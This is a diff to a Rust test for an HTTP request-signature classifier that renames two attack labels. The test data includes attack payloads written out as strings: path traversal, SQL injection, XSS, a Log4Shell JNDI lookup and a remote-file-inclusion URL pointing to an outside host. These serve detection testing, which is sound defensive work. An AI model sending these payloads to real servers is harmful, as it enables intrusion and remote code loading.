@@ -49,7 +49,7 @@ fn request_signatures() {
         ("GET //phpMyAdmin-2.8.2.3/scripts/setup.php HTTP/1.1", 404, "-", BROWSER, Probe, "probe:phpmyadmin"),
         ("GET /..%2f..%2F..%2fetc/passwd HTTP/1.1", 400, "-", BROWSER, Probe, "inject:traversal"),
         ("GET /cgi-bin/.%252e/.%252e/bin/sh HTTP/1.1", 400, "-", BROWSER, Probe, "inject:cmd-bin-sh"),
-        ("GET /?id=1%27%20OR%201=1-- HTTP/1.1", 200, "-", BROWSER, Probe, "inject:sqli-quote-logic"),
+        ("GET /?id=1%27%20OR%201=1-- HTTP/1.1", 200, "-", BROWSER, Probe, "sqli:s&1c"),
         ("GET /item?id=1+UNION+ALL+SELECT+1,2 HTTP/1.1", 200, "-", BROWSER, Probe, "inject:sqli-union"),
         ("GET / HTTP/1.1", 200, "-", "${jndi:ldap://198.51.100.9/a}", Probe, "inject:log4shell"),
         (
@@ -76,7 +76,7 @@ fn request_signatures() {
             Probe,
             "inject:php-invokefunction",
         ),
-        ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "-", BROWSER, Probe, "inject:xss-script"),
+        ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "-", BROWSER, Probe, "xss:script-tag"),
         ("GET /index.php?n=http://198.51.100.9/pizza.htm? HTTP/1.1", 200, "-", BROWSER, Probe, "inject:rfi-url-query"),
         ("GET /wsman/relay.php HTTP/1.1", 404, "-", BROWSER, Probe, "missing:php"),
         ("GET / HTTP/1.1", 200, "-", "sqlmap/1.9.11#stable (https://sqlmap.org)", ScannerAgent, "agent:sqlmap"),
